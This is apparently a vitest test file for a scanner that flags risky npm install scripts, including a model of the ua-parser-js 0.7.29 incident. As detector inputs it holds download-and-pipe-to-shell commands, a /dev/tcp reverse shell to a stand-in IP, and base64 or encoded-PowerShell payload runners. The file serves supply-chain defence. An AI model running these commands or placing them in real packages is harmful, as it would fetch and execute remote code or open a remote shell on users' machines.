/** npm lifecycle scripts: presence, what they start, and the files they run. */
import { analyzeCommand, analyzeInstallScripts, analyzeShellScript, splitShellCommand } from '@airlock/static-signals';
import { describe, expect, it } from 'vitest';
import { UA_PARSER_MANIFEST, UA_PARSER_PREINSTALL_SH } from './fixtures/incident-snippets.js';

const ids = (signals: { id: string }[]): string[] => signals.map((s) => s.id);

describe('splitShellCommand', () => {
  it('splits on operators outside quotes and marks piped segments', () => {
    expect(splitShellCommand(`curl -s "https://x.example/a b" | sh && echo 'a|b;c' || true; FOO=1 cross-env X=2 node i.js 2>&1`)).toEqual([
      { words: ['curl', '-s', 'https://x.example/a b'], piped: false },
      { words: ['sh'], piped: true },
      { words: ['echo', 'a|b;c'], piped: false },
      { words: ['true'], piped: false },
      { words: ['node', 'i.js', '2>&1'], piped: false },
    ]);
    expect(splitShellCommand('X=$(curl -s https://a.example) && (cd lib && `wget b`)').map((s) => s.words[0])).toEqual([
      'curl',
      'cd',
      'wget',
    ]);
  });
});

describe('analyzeInstallScripts', () => {
  it('reports each install-time script with the command and the file it runs', () => {
    const manifestText = JSON.stringify({ name: 'x', scripts: { test: 'vitest', postinstall: 'node ./scripts/setup' } }, null, 2);
    const { signals, targets } = analyzeInstallScripts({
      manifest: JSON.parse(manifestText),
      manifestText,
      files: ['package.json', 'scripts/setup.js'],
    });
    expect(signals).toEqual([
      {
        id: 'install-script.present',
        severity: 'low',
        message: '"postinstall" script runs at install time: node ./scripts/setup',
        evidence: { file: 'package.json', line: 5, snippet: '"postinstall": "node ./scripts/setup"', value: 'node ./scripts/setup' },
        details: { script: 'postinstall' },
      },
      {
        id: 'install-script.runs-file',
        severity: 'info',
        message: '"postinstall" runs the package file scripts/setup with node',
        evidence: { file: 'package.json', line: 5, snippet: '"postinstall": "node ./scripts/setup"', value: 'scripts/setup' },
        details: { script: 'postinstall' },
      },
    ]);
    expect(targets).toEqual(['scripts/setup.js']);
  });

  it('models ua-parser-js 0.7.29: a preinstall that starts preinstall.js', () => {
    const { signals, targets } = analyzeInstallScripts({
      manifest: UA_PARSER_MANIFEST,
      files: ['preinstall.js', 'preinstall.sh', 'package.json'],
    });
    expect(ids(signals)).toEqual(['install-script.present', 'install-script.runs-file']);
    expect(signals[0]!.details).toEqual({ script: 'preinstall' });
    expect(targets).toEqual(['preinstall.js']);
  });

  it('flags a download piped into a shell as high, and the download itself as medium', () => {
    const { signals } = analyzeInstallScripts({ manifest: { scripts: { preinstall: 'curl -fsSL http://203.0.113.7/i.sh | bash' } } });
    expect(signals.map((s) => [s.id, s.severity, s.evidence.value])).toEqual([
      ['install-script.present', 'low', 'curl -fsSL http://203.0.113.7/i.sh | bash'],
      ['install-script.download', 'medium', 'http://203.0.113.7/i.sh'],
      ['install-script.pipe-to-shell', 'high', 'bash'],
    ]);
  });

  it('flags inline code, looks inside sh -c, and spots reverse shells and decoders', () => {
    expect(analyzeCommand(`node -e "require('child_process').exec('id')"`).map((f) => [f.id, f.value])).toEqual([
      ['install-script.inline-code', "require('child_process').exec('id')"],
    ]);
    expect(analyzeCommand(`sh -c "wget -qO- https://dl.example/x | sh"`).map((f) => f.id)).toEqual([
      'install-script.inline-code',
      'install-script.download',
      'install-script.pipe-to-shell',
    ]);
    expect(analyzeCommand('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1').map((f) => f.id)).toEqual(['install-script.network-shell']);
    expect(analyzeCommand('node build.js > out.log 2>&1').map((f) => [f.id, f.value])).toEqual([['install-script.runs-file', 'build.js']]);
    expect(analyzeCommand('node /usr/lib/node_modules/x/cli.js').map((f) => f.id)).toEqual([]);
    expect(analyzeCommand('echo Y3VybA== | base64 -d | sh').map((f) => f.id)).toEqual([
      'install-script.decodes-payload',
      'install-script.pipe-to-shell',
    ]);
    expect(analyzeCommand('powershell -EncodedCommand SQBFAFgA').map((f) => [f.id, f.severity])).toEqual([
      ['install-script.inline-code', 'medium'],
      ['install-script.decodes-payload', 'high'],
    ]);
  });

  it('reports the build tool and an implicit node-gyp build from binding.gyp', () => {
    const withScript = analyzeInstallScripts({
      manifest: { scripts: { install: 'prebuild-install || node-gyp rebuild' } },
      files: ['binding.gyp'],
    });
    expect(withScript.signals.map((s) => [s.id, s.details])).toEqual([
      ['install-script.present', { script: 'install', buildTool: 'prebuild-install' }],
    ]);
    const implicit = analyzeInstallScripts({ manifest: { name: 'native' }, files: ['binding.gyp', 'src/a.cc'] });
    expect(implicit.signals).toEqual([
      {
        id: 'install-script.node-gyp',
        severity: 'low',
        message: 'binding.gyp with no install script: npm runs `node-gyp rebuild` at install time (native build)',
        evidence: { file: 'binding.gyp', value: 'node-gyp rebuild' },
        details: { script: 'install', implicit: true },
      },
    ]);
  });

  it('treats prepare as info and does not make its files install-time', () => {
    const { signals, targets } = analyzeInstallScripts({
      manifest: { scripts: { prepare: 'bash scripts/build.sh' } },
      files: ['scripts/build.sh'],
    });
    expect(signals.map((s) => [s.id, s.severity])).toEqual([
      ['install-script.present', 'info'],
      ['install-script.runs-file', 'info'],
    ]);
    expect(targets).toEqual([]);
  });

  it('reports nothing for packages without install scripts or with a non-object manifest', () => {
    expect(analyzeInstallScripts({ manifest: { scripts: { test: 'curl x | sh', build: 'tsc' } }, files: ['index.js'] })).toEqual({
      signals: [],
      targets: [],
    });
    expect(analyzeInstallScripts({ manifest: 'not an object' })).toEqual({ signals: [], targets: [] });
    expect(analyzeInstallScripts({ manifest: { scripts: { postinstall: 42 } } })).toEqual({ signals: [], targets: [] });
  });
});

describe('analyzeShellScript', () => {
  it("reads ua-parser-js's preinstall.sh line by line: two downloads", () => {
    expect(
      analyzeShellScript(UA_PARSER_PREINSTALL_SH, 'preinstall.sh').map((s) => [s.id, s.severity, s.evidence.line, s.evidence.value]),
    ).toEqual([
      ['install-script.download', 'medium', 1, 'https://freegeoip.example/xml/'],
      ['install-script.download', 'medium', 3, 'http://203.0.113.50/download/jsextension'],
    ]);
  });

  it('is silent for a build script', () => {
    expect(analyzeShellScript('#!/bin/sh\nset -e\nnode-gyp rebuild\ncp build/Release/x.node lib/\n', 'build.sh')).toEqual([]);
  });
});
